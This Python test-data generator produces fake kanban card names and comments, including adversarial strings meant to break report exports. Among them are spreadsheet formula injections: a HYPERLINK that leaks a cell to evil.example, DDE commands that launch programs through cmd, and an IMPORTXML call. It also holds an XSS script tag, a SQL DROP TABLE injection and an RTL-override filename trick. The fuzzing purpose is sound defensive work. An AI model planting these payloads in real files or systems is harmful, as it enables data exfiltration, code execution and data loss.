"""Deterministic card names, descriptions and comments, including adversarial text.

Adversarial strings are what real boards contain and what breaks reports: spreadsheet formula
prefixes (`=`, `+`, `-`, `@`), control characters, emoji, right-to-left text and bidi
overrides, markup, very long names.
"""

from __future__ import annotations

import random

VERBS = (
    "Redesign",
    "Fix",
    "Polish",
    "Prototype",
    "Ship",
    "Audit",
    "Migrate",
    "Document",
    "Research",
    "Refactor",
    "Test",
    "Localise",
    "Launch",
    "Simplify",
    "Measure",
    "Review",
)
OBJECTS = {
    "roadmap": (
        "onboarding journey",
        "design system v2",
        "accessibility programme",
        "pricing page",
        "mobile navigation",
        "dark mode",
        "search experience",
        "checkout flow",
        "notification centre",
        "team workspaces",
        "brand refresh",
        "help centre",
    ),
    "delivery": (
        "signup form",
        "button contrast",
        "empty states",
        "icon set",
        "date picker",
        "error messages",
        "modal spacing",
        "avatar upload",
        "table sorting",
        "toast styles",
        "focus rings",
        "settings page",
        "invoice PDF",
        "password reset email",
        "font loading",
        "tooltip copy",
        "pagination control",
        "dropdown keyboard support",
        "chart colours",
    ),
    "marketing": (
        "launch blog post",
        "newsletter",
        "webinar deck",
        "landing page copy",
        "case study",
        "social calendar",
        "press kit",
        "conference booth",
        "SEO keywords",
        "pricing FAQ",
        "customer quotes",
        "product video",
        "partner email",
    ),
    "archive": ("old homepage", "legacy footer", "2024 banner", "intranet menu"),
}
QUALIFIERS = (
    "",
    "",
    "",
    "",
    " for mobile",
    " (v2)",
    " in Safari",
    " for EU customers",
    " — follow-up",
    " after feedback",
    " [WIP]",
    " – phase 2",
    " for enterprise",
)
ADVERSARIAL = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3 sneaky minus",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "Bell\x07and escape\x1b[31m red",
    "Tab\tand vertical\x0btab and unit\x1fseparator",
    "Emoji 🚀🔥 launch ✅ 👩🏽‍💻 family 👨‍👩‍👧",
    "تحسين صفحة الدفع",
    "עיצוב מחדש של הכפתור",
    "Mixed RTL \u202eevil.exe\u202c override",
    "Zero\u200bwidth\u200djoiner\ufeffbom",
    "<script>alert('xss')</script>",
    "'; DROP TABLE cards; --",
    "Ünïcödé ñame with combining e\u0301",
    "中文卡片名称：设计评审",
    "Line one\nLine two\r\nLine three",
    "  leading and trailing spaces  ",
    'Card with "quotes" and \\backslashes\\',
    "Name ending with formula chars =",
)
COMMENTS = (
    "Looks good to me",
    "Blocked on API changes",
    "Can we split this?",
    "Moved back: QA failed",
    "Ready for review 👀",
    "@channel please check",
    '=IMPORTXML("http://evil","//a")',
    "Shipped to 10% of users",
    "Needs copy review",
    "Waiting on legal",
)


class TextSource:
    """Deterministic names and descriptions for one board role."""

    def __init__(self, rng: random.Random, adversarial: bool) -> None:
        self._rng = rng
        self._adversarial = adversarial

    def card_name(self, role: str) -> str:
        """A plausible card name; about 6% are adversarial strings when enabled."""
        rng = self._rng
        if self._adversarial and rng.random() < 0.06:
            name = rng.choice(ADVERSARIAL)
            if rng.random() < 0.05:
                name = name + " " + "long " * 700
            return name
        objects = OBJECTS.get(role, OBJECTS["delivery"])
        return f"{rng.choice(VERBS)} {rng.choice(objects)}{rng.choice(QUALIFIERS)}"

    def description(self, name: str) -> str:
        """A short markdown description (sometimes empty, sometimes adversarial)."""
        rng = self._rng
        roll = rng.random()
        if roll < 0.3:
            return ""
        if self._adversarial and roll > 0.96:
            return rng.choice(ADVERSARIAL) + "\n\nSOH control char:\x01end"
        return f"## Why\n{name} — requested by customers.\n\n- [ ] acceptance criteria\n"

    def comment(self) -> str:
        """A comment text."""
        return self._rng.choice(COMMENTS)
